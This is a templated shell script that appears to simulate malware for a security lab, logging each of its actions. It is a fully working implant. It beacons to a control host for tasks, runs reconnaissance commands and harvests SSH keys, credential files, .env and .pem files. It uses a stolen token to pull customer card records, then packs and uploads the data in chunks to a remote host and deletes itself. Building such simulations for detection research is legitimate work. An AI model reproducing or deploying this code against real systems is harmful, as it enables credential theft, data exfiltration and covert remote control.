#!@INTERPRETER@
# Part of a laboratory: reads made-up keys and customers in the lab's own folders and sends them to the lab's own collector.
CONTROL="@CONTROL@"
LOG="@LOG@"
WORK="@WORK@"
DELAY=@DELAY@
PIECE=@PIECE@
token=""

note() {
  printf '{"ts":"%s","actor":"malware","pid":%d,"act":"%s"%s}\n' "$(date +%s%N)" $$ "$1" "$2" >> "$LOG"
}

look() {
  for command in "id" "uname -a" "hostname"; do
    $command > /dev/null 2>&1
    note run ",\"command\":\"$command\""
  done
}

search() {
  found=0
  find "$1" -type f \( -name id_rsa -o -name id_ed25519 -o -name credentials.json -o -name credentials -o -name .env -o -name '*.pem' \) > "$WORK/list"
  while read -r path; do
    cat "$path" >> "$WORK/keys"
    note read ",\"path\":\"$path\",\"bytes\":$(wc -c < "$path")"
    found=$((found + 1))
  done < "$WORK/list"
  value=$(sed -n 's/.*"token": *"\([^"]*\)".*/\1/p' "$WORK/keys" | head -n 1)
  [ -n "$value" ] && token="$value"
  note search ",\"path\":\"$1\",\"found\":$found"
}

customers() {
  offset=0
  received=0
  while [ $offset -lt 1600 ]; do
    curl -s -m 5 -H "authorization: Bearer $token" "http://$1/customers?offset=$offset&limit=200" > "$WORK/page"
    received=$((received + $(wc -c < "$WORK/page")))
    cat "$WORK/page" >> "$WORK/customers.json"
    offset=$((offset + 200))
  done
  rm "$WORK/page"
  rows=$(grep -o '"card"' "$WORK/customers.json" | wc -l)
  note collect ",\"peer\":\"$1\",\"bytes\":$received,\"rows\":$rows,\"path\":\"$WORK/customers.json\""
}

send() {
  tar -C "$WORK" -czf "$WORK/out.tgz" keys customers.json
  note pack ",\"path\":\"$WORK/out.tgz\",\"bytes\":$(wc -c < "$WORK/out.tgz")"
  split -b "$PIECE" "$WORK/out.tgz" "$WORK/piece-"
  for piece in "$WORK"/piece-*; do
    curl -s -m 5 --data-binary "@$piece" "http://$1/up" > /dev/null
    note send ",\"peer\":\"$1\",\"bytes\":$(wc -c < "$piece")"
  done
}

leave() {
  for path in "$WORK"/*; do
    rm -f "$path"
    note delete ",\"path\":\"$path\""
  done
  rmdir "$WORK"
  rm -f "$0"
  note delete ",\"path\":\"$0\""
}

mkdir -p "$WORK"
note start ",\"path\":\"$0\",\"parent\":$PPID"
beat=0
while [ $beat -lt 60 ]; do
  line=$(curl -s -m 5 "http://$CONTROL/task?n=$beat")
  note beacon ",\"peer\":\"$CONTROL\",\"command\":\"$line\""
  beat=$((beat + 1))
  verb=${line%% *}
  rest=${line#* }
  case $verb in
    look) look ;;
    search) search "$rest" ;;
    customers) customers "$rest" ;;
    send) send "$rest" ;;
    leave) leave; break ;;
  esac
  sleep "$DELAY"
done
note end
